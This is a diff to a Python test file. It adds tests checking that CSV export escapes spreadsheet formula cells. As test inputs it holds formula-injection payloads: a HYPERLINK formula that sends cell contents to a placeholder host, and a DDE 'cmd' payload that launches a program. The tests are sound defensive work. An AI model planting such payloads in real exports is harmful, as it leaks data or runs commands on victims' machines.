@@ -12,7 +12,7 @@ from cluster_tools.cli.results_cmds import _human, _printable
 from cluster_tools.errors import ConfigError
 from cluster_tools.services.results import (
     ResultObject, Table, UnsafeKey, _collect, check_file_name, check_subject_names, local_path, parse_rows,
-    plan_download, summarize_usage, write_csv,
+    plan_download, spreadsheet_safe, summarize_usage, write_csv,
 )
 from cluster_tools.transport.s3 import translate_s3_error
 
@@ -126,6 +126,25 @@ def test_write_csv_renders_missing_nested_and_boolean_cells():
     out = io.StringIO()
     write_csv(table, out)
     assert out.getvalue() == 'subject,a,b,c\ns1,1.5,"{""x"":[1,2]}",\ns2,,,true\n'
+
+
+
+@pytest.mark.parametrize("cell, shown", [
+    ("=HYPERLINK(\"http://x/?\"&A1,\"ok\")", "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-3", "-1e-3"), (-4, -4), ("a=b", "a=b"), ("", ""),
+])
+def test_spreadsheet_formulas_are_escaped_numbers_are_not(cell, shown):
+    assert spreadsheet_safe(cell) == shown
+
+
+def test_collected_csv_escapes_formula_cells_and_column_names():
+    table = Table(columns=["subject", "=cmd()", "score"],
+                  rows=[{"subject": "s1", "=cmd()": "@x", "score": "-0.25"}, {"subject": "s2", "score": "=1+1"}])
+    out = io.StringIO()
+    write_csv(table, out)
+    assert out.getvalue() == "subject,'=cmd(),score\ns1,'@x,-0.25\ns2,,'=1+1\n"
 
 
 # --- errors and printing --------------------------------------------------------------------------
